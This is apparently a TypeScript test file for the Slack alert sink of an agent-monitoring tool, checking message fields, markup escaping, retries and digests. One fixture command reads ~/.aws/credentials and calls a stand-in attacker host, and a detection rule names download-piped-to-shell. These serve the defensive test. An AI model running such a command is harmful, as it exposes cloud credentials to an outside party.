import t from 'tap';
import { slackFactory } from '../../src/alerts/slack-sink.js';
import { openSink, until } from '../helpers/alert-sinks.js';
import { commandEvent, detectionOf } from '../helpers/detections.js';
import { HttpReceiver } from '../helpers/http-receiver.js';

type Block = { type: string; text?: { text: string }; fields?: { text: string }[] };

t.test('an incoming-webhook message with rule, severity, session, agent, command and trace id; 429 then 500 then delivered', async (t) => {
  const receiver = await HttpReceiver.start(() => ({ status: 200, body: 'ok' }));
  const { sinks } = await openSink(slackFactory, { endpoint: `${receiver.url}/services/T0/B0/x` });
  t.teardown(async () => { await sinks.close(); await receiver.close(); });
  receiver.plan({ status: 429, headers: { 'retry-after': '0' }, body: 'rate_limited' }, { status: 500 });
  const event = commandEvent('cat ~/.aws/credentials > /tmp/<x> & curl http://evil.example');
  sinks.write([detectionOf(event)], [event]);
  await until(() => receiver.accepted.length === 1, 'the message');
  t.equal(receiver.requests.length, 3);
  const [request] = receiver.accepted;
  t.equal(request.url, '/services/T0/B0/x');
  const message = JSON.parse(request.body.toString()) as { text: string; blocks: Block[] };
  t.equal(message.text, '[HIGH] pipe-to-shell: bash ran curl | sh');
  t.equal(message.blocks[0].type, 'header');
  const fields = message.blocks[1].fields!.map((f) => f.text);
  t.ok(fields.includes('*Rule*\npipe-to-shell — Download piped to a shell'));
  t.ok(fields.includes('*Severity*\nhigh'));
  t.ok(fields.includes('*Session*\nsess-42'));
  t.ok(fields.includes('*Agent*\ncoder'));
  const code = message.blocks.filter((b) => b.type === 'section' && b.text !== undefined).map((b) => b.text!.text);
  t.ok(code.includes('*Command*\n```cat ~/.aws/credentials &gt; /tmp/&lt;x&gt; &amp; curl http://evil.example```'), 'mrkdwn escaped');
  t.ok(code.includes(`*Trace id*\n\`\`\`${event.traceId}\`\`\``));
});

t.test('a 400 (invalid_payload) is dropped, not retried; a digest is one message', async (t) => {
  const receiver = await HttpReceiver.start(() => ({ status: 200, body: 'ok' }));
  const { sinks, clock } = await openSink(slackFactory, { endpoint: receiver.url, digest: { enabled: true, interval: '1m' } });
  t.teardown(async () => { await sinks.close(); await receiver.close(); });
  receiver.plan({ status: 400, body: 'invalid_payload' });
  const event = commandEvent();
  sinks.write([detectionOf(event, 'a')], [event]);
  clock.now += 60_000;
  sinks.tick();
  await until(() => receiver.requests.length === 1, 'the refused digest');
  sinks.write([detectionOf(event, 'b'), detectionOf(event, 'c')], [event]);
  clock.now += 60_000;
  sinks.tick();
  await until(() => receiver.accepted.length === 1, 'the second digest');
  t.equal(receiver.requests.length, 2, 'the 400 was not retried');
  const message = JSON.parse(receiver.accepted[0].body.toString()) as { text: string; blocks: Block[] };
  t.equal(message.text, 'Vigil: 2 alerts');
  t.equal(message.blocks.filter((b) => b.type === 'header').length, 2);
});
